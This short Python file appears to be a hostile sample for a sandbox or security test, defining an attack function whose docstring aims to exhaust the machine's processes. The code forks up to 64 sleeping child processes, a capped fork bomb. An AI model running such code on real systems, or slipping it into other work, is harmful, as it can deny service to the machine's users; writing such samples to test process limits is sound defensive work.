"""Multiply until the machine has no process left."""

# ruff: noqa (written as an attacker would)

import os
import time


def attack(ctx):
    started = []
    for _ in range(64):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        started.append(f"process {pid}")
    return started
